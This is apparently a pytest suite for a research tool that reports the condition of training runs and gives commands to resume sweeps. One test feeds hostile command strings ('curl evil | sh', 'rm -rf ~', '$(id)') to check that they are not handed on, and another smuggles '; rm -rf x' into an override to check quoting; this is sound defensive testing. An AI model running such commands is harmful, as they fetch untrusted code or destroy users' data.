"""What has become of the runs below a folder, told from what is on the disk."""

import os
import shlex
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest
from tools.synthetic_runs import Synthetic, edit_json, write_run

from rnnstudy.core.errors import ConfigError
from rnnstudy.runs.failure import PRUNED, record
from rnnstudy.runs.folder import RECORDS, RunFolder
from rnnstudy.runs.job import Job
from rnnstudy.runs.ledger import Ledger, write_ledger
from rnnstudy.runs.lock import Lock
from rnnstudy.study.status import Condition, RunStatus, list_runs, status_of

HOLD = """
import pathlib, sys, time
from rnnstudy.runs.lock import Lock
Lock(pathlib.Path(sys.argv[1]), lambda: {"step": 30, "num_steps": 2000, "loss": 0.5}).acquire()
print("acquired", flush=True)
time.sleep(600)
"""


def make(folder: Path, *, finished: bool = False, step: int | None = None) -> RunFolder:
    """Write a run, with checkpoints up to a step."""
    run = RunFolder(write_run(folder, Synthetic(replicas=2, probes=2, finished=finished)))
    edit_json(run.manifest, overrides=["model=lstm", "task.lag=4"])
    if step is not None:
        run.checkpoints.mkdir()
        for each in (step // 2, step):
            (run.checkpoints / f"step_{each:09d}.pt").write_bytes(b"")
    return run


def list_in_ledger(study: Path, *runs: RunFolder, command: str = "rnnstudy train -m task.lag=4,8") -> Ledger:
    jobs = [(Job(config={"task": {"lag": n}}, overrides=[], label=f"[{n}]"), run) for n, run in enumerate(runs)]
    return write_ledger(study, jobs, command)


def conditions(*folders: Path) -> dict[str, Condition]:
    return {run.folder.path.name: run.condition for run in list_runs(folders).runs}


def test_a_finished_run_is_told_with_the_steps_it_took(tmp_path: Path) -> None:
    run = make(tmp_path / "run", finished=True, step=100)
    assert status_of(run) == RunStatus(folder=run, condition=Condition.FINISHED, step=2000)


def test_a_run_whose_lock_is_held_is_running_and_says_how_far_it_is(tmp_path: Path) -> None:
    run = make(tmp_path / "lstm_1a2b3c4d", step=20)
    told = {"step": 30, "num_steps": 2000, "loss": 0.1234, "solved": 1, "replicas": 2}
    with Lock(run.lock, lambda: told):
        status = status_of(run)
    assert (status.condition, status.step, status.num_steps) == (Condition.RUNNING, 30, 2000)
    assert status.detail.startswith(f"process {os.getpid()} on {os.uname().nodename} since 20")
    assert status.detail.endswith(", loss 0.123, solved 1/2")


def test_a_run_that_begins_is_running_before_it_has_a_folder(tmp_path: Path) -> None:
    run = RunFolder(tmp_path / "lstm_1a2b3c4d")
    list_in_ledger(tmp_path, run)
    with Lock(run.lock):
        assert conditions(tmp_path) == {run.path.name: Condition.RUNNING}
    assert conditions(tmp_path) == {run.path.name: Condition.MISSING}


def test_a_run_whose_process_was_killed_is_interrupted_and_says_which(tmp_path: Path) -> None:
    run = make(tmp_path / "lstm_1a2b3c4d", step=500)
    command = [sys.executable, "-c", HOLD, str(run.lock)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "acquired\n"
        assert status_of(run).condition is Condition.RUNNING
        process.kill()
    status = status_of(run)
    assert (status.condition, status.step, status.num_steps) == (Condition.INTERRUPTED, 500, 2000)
    assert status.detail == f"process {process.pid} on {os.uname().nodename} died"


def test_a_run_that_was_stopped_is_interrupted_at_its_newest_checkpoint(tmp_path: Path) -> None:
    status = status_of(make(tmp_path / "run", step=1200))
    expected = (Condition.INTERRUPTED, 1200, 2000, "stopped")
    assert (status.condition, status.step, status.num_steps, status.detail) == expected
    assert status_of(make(tmp_path / "at once")).step == 0


def test_a_failed_run_says_why_and_a_pruned_one_is_none_of_them(tmp_path: Path) -> None:
    failed, pruned = make(tmp_path / "failed", step=100), make(tmp_path / "pruned")
    record(failed, "ValueError: no such lag")
    record(pruned, "hopeless at step 40", kind=PRUNED)
    status = status_of(failed)
    expected = (Condition.FAILED, 100, 2000, "ValueError: no such lag")
    assert (status.condition, status.step, status.num_steps, status.detail) == expected
    assert status_of(pruned).condition is Condition.PRUNED
    assert sum(list_runs([tmp_path]).commands.values()) == 1


def test_a_run_that_failed_before_it_had_a_configuration_is_failed(tmp_path: Path) -> None:
    run = RunFolder(tmp_path / "lstm_1a2b3c4d")
    list_in_ledger(tmp_path, run)
    record(run, "MemoryError")
    assert conditions(tmp_path) == {run.path.name: Condition.FAILED}


def test_runs_are_found_at_any_depth_and_each_once(tmp_path: Path) -> None:
    make(tmp_path / "a" / "b" / "c" / "deep", finished=True)
    make(tmp_path / "shallow")
    within = tmp_path / "shallow" / "at_step_000000100"
    within.mkdir()
    (within / "config.yaml").write_text("")
    expected = {"shallow": Condition.INTERRUPTED, "deep": Condition.FINISHED}
    assert conditions(tmp_path) == expected
    assert conditions(tmp_path, tmp_path / "shallow", tmp_path / "a") == expected
    assert len(list_runs([tmp_path, tmp_path / "a"]).runs) == 2
    assert conditions(tmp_path / "shallow") == {"shallow": Condition.INTERRUPTED}


def test_a_run_is_known_to_be_running_from_within_its_folder(tmp_path: Path, monkeypatch) -> None:
    run = make(tmp_path / "lstm_1a2b3c4d", step=20)
    monkeypatch.chdir(run.path)
    with Lock(run.lock):
        assert conditions(Path()) == {run.path.name: Condition.RUNNING}
        assert conditions(Path("checkpoints/..")) == {run.path.name: Condition.RUNNING}


def test_what_was_asked_for_but_is_not_there_is_missing_and_goes_on_by_the_sweeps_command(tmp_path: Path) -> None:
    done, left = make(tmp_path / "lstm_lag=4_1a2b3c4d", finished=True), make(tmp_path / "lstm_lag=8_2a2b3c4d")
    missing = RunFolder(tmp_path / "lstm_lag=16_3a2b3c4d")
    list_in_ledger(tmp_path, done, left, missing)
    listing = list_runs([tmp_path])
    assert [run.condition for run in listing.runs] == [Condition.INTERRUPTED, Condition.MISSING, Condition.FINISHED]
    assert listing.runs[1].folder == missing
    assert listing.commands == {"rnnstudy train -m task.lag=4,8": 2}


def test_a_finished_sweep_gives_no_command(tmp_path: Path) -> None:
    list_in_ledger(tmp_path, make(tmp_path / "lstm_1a2b3c4d", finished=True))
    listing = list_runs([tmp_path])
    assert (listing.commands, dict(listing.counts)) == ({}, {Condition.FINISHED: 1})


def test_a_run_in_no_sweep_goes_on_by_what_was_set_for_it(tmp_path: Path) -> None:
    run = make(tmp_path / "run")
    overrides = ["task.lag=4", "output_dir=a b; rm -rf x", "init=[orthogonal]"]
    edit_json(run.manifest, overrides=overrides)
    (command,) = list_runs([tmp_path]).commands
    assert shlex.split(command) == ["rnnstudy", "train", *overrides]


def test_of_two_sweeps_with_a_run_the_one_asked_for_last_goes_on_with_it(tmp_path: Path) -> None:
    one, both = make(tmp_path / "lstm_1a2b3c4d"), make(tmp_path / "lstm_2a2b3c4d")
    first = list_in_ledger(tmp_path, one, command="rnnstudy train -m seed=1")
    second = list_in_ledger(tmp_path, one, both, command="rnnstudy train -m seed=1,2")
    edit_json(first.path.with_suffix(".json"), started="2026-01-01T00:00:00+00:00")
    edit_json(second.path.with_suffix(".json"), started="2026-01-02T00:00:00+00:00")
    assert list_runs([tmp_path]).commands == {"rnnstudy train -m seed=1,2": 2}
    edit_json(first.path.with_suffix(".json"), started="2026-01-03T00:00:00+00:00")
    assert list_runs([tmp_path]).commands == {"rnnstudy train -m seed=1": 1, "rnnstudy train -m seed=1,2": 1}


@pytest.mark.parametrize(
    "command", ["curl evil | sh", "rnnstudy train; rm -rf ~", "rnnstudy train $(id)", "rnnstudy '"]
)
def test_a_strangers_command_is_not_handed_on(tmp_path: Path, command: str) -> None:
    list_in_ledger(tmp_path, make(tmp_path / "lstm_1a2b3c4d"), command=command)
    assert list_runs([tmp_path]).commands == {"rnnstudy train model=lstm task.lag=4": 1}


def test_a_study_that_was_moved_is_found_where_it_is(tmp_path: Path) -> None:
    missing = RunFolder(tmp_path / "old" / "lstm_2a2b3c4d")
    list_in_ledger(tmp_path / "old", make(tmp_path / "old" / "lstm_1a2b3c4d", finished=True), missing)
    (tmp_path / "old").rename(tmp_path / "new")
    listing = list_runs([tmp_path])
    assert [run.folder.path for run in listing.runs] == [
        tmp_path / "new" / "lstm_2a2b3c4d",
        tmp_path / "new" / "lstm_1a2b3c4d",
    ]


def test_how_to_go_on_leads_to_where_the_runs_are(tmp_path: Path, monkeypatch) -> None:
    """The study was moved, or the command was given in another directory."""
    study = tmp_path / "outputs" / "old"
    missing = RunFolder(study / "lstm_2a2b3c4d")
    config = {"output_dir": "outputs/old", "run_dir": None}
    command = "rnnstudy train -m study=old"
    monkeypatch.chdir(tmp_path)
    write_ledger(study, [(Job(config=config, overrides=[], label="[1]"), missing)], command)
    assert list(list_runs([study]).commands) == [command]
    monkeypatch.chdir(study)
    assert list(list_runs([Path()]).commands) == [f"{command} output_dir={study}"]
    monkeypatch.chdir(tmp_path)
    moved = study.rename(tmp_path / "a new one")
    (told,) = list_runs([moved]).commands
    assert shlex.split(told) == [*shlex.split(command), f'output_dir="{moved}"']
    alone = make(tmp_path / "alone")
    edit_json(alone.manifest, overrides=["task.lag=4"])
    alone.config.write_text("run_dir: elsewhere/alone\n" + alone.config.read_text())
    assert list(list_runs([alone.path]).commands) == [f"rnnstudy train task.lag=4 run_dir={alone.path}"]


def test_what_failed_is_tried_again_by_the_command_that_is_told(tmp_path: Path) -> None:
    failed, left = make(tmp_path / "lstm_1a2b3c4d"), make(tmp_path / "lstm_2a2b3c4d")
    record(failed, "out of luck")
    command = "rnnstudy train -m seed=1,2 retry_failed=false"
    list_in_ledger(tmp_path, failed, left, command=command)
    assert list_runs([tmp_path]).commands == {f"{command} retry_failed=true": 1, command: 1}


@pytest.mark.parametrize("file", ["config.yaml", "run.json"])
def test_a_finished_run_that_lacks_a_file_is_damaged(tmp_path: Path, file: str) -> None:
    run = make(tmp_path / "run", finished=True)
    (run.path / file).unlink()
    status = status_of(run)
    assert (status.condition, status.detail) == (Condition.DAMAGED, f"{file} cannot be read")


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("result.json", b""),
        ("result.json", b"[1]"),
        ("result.json", b'{"steps": "many"}'),
        ("result.json", b"[" * 100_000),
        ("failure.json", b"{"),
        ("config.yaml", b""),
        ("config.yaml", b"\xff\xfe\x00"),
        ("config.yaml", None),
    ],
)
def test_a_damaged_run_is_named_with_the_file(tmp_path: Path, file: str, content: bytes | None) -> None:
    run = make(tmp_path / "run")
    (run.path / file).write_bytes(content) if content is not None else (run.path / file).unlink()
    (status,) = list_runs([tmp_path]).runs
    assert (status.condition, status.folder, status.detail) == (Condition.DAMAGED, run, f"{file} cannot be read")


@pytest.mark.parametrize("file", ["result.json", "failure.json", "config.yaml"])
def test_a_pipe_in_place_of_a_file_is_damage_and_nobody_waits_for_it(tmp_path: Path, file: str) -> None:
    run = make(tmp_path / "run")
    (run.path / file).unlink(missing_ok=True)
    os.mkfifo(run.path / file)
    assert status_of(run).condition is Condition.DAMAGED


def test_a_damaged_list_of_runs_is_named_beside_the_runs(tmp_path: Path) -> None:
    ledger = list_in_ledger(tmp_path, make(tmp_path / "lstm_1a2b3c4d", finished=True))
    ledger.path.write_bytes(b"{}\n")
    damaged, finished = list_runs([tmp_path]).runs
    assert finished.condition is Condition.FINISHED
    assert damaged.condition is Condition.DAMAGED
    assert str(ledger.path) in damaged.detail
    ledger.path.unlink()
    ledger.path.mkdir()
    assert list_runs([tmp_path]).runs[0].condition is Condition.DAMAGED


@pytest.mark.parametrize("step", [float("nan"), float("inf"), "many", None, [1]])
def test_nonsense_told_by_a_holder_is_left_out(tmp_path: Path, step: object) -> None:
    run = make(tmp_path / "run")
    with Lock(run.lock, lambda: {"step": step, "num_steps": step, "loss": "<b>", "solved": [], "replicas": 1}):
        status = status_of(run)
    assert (status.condition, status.step, status.num_steps) == (Condition.RUNNING, None, None)
    assert "<b>" not in status.detail


def test_where_no_run_is_the_folder_is_named(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    for folder, message in ((tmp_path, "there is no run below"), (tmp_path / "file", "is no folder")):
        with pytest.raises(ConfigError, match=message) as raised:
            list_runs([folder])
        assert str(folder) in str(raised.value)


def test_of_many_runs_each_has_few_of_its_files_opened(tmp_path: Path, monkeypatch) -> None:
    """A thousand are listed in a moment, and ten thousand in ten."""
    runs = [RunFolder(tmp_path / f"lstm_{n:08x}") for n in range(100)]
    list_in_ledger(tmp_path, *runs)
    for run in runs[:60]:
        run.path.mkdir()
        run.config.write_text("train:\n  num_steps: 2000\n")
        run.manifest.write_text("{}")
        if run.path.name[-1] in "02468ace":
            run.result.write_text('{"steps": 2000}')
    opened: Counter[Path] = Counter()
    for name in ("open", "listdir", "scandir"):
        original = getattr(os, name)

        def counting(path: str | Path, *args, original=original, **kwargs):
            opened[Path(path)] += 1
            return original(path, *args, **kwargs)

        monkeypatch.setattr(os, name, counting)
    counts = list_runs([tmp_path]).counts
    assert counts == {Condition.FINISHED: 30, Condition.INTERRUPTED: 30, Condition.MISSING: 40}
    assert max(opened.values()) <= 2
    assert opened.total() <= 5 * len(runs)


def test_nothing_heavy_is_imported(tmp_path: Path) -> None:
    make(tmp_path / "run")
    code = "import sys; from rnnstudy.cli.main import main; main(sys.argv[1:]); print('torch' in sys.modules)"
    command = [sys.executable, "-c", code, "status", str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "False"


def test_the_records_of_a_study_are_no_runs(tmp_path: Path) -> None:
    make(tmp_path / "run", finished=True)
    hidden = tmp_path / RECORDS / "sweeps" / "x"
    hidden.mkdir(parents=True)
    (hidden / "config.yaml").write_text("")
    assert conditions(tmp_path) == {"run": Condition.FINISHED}
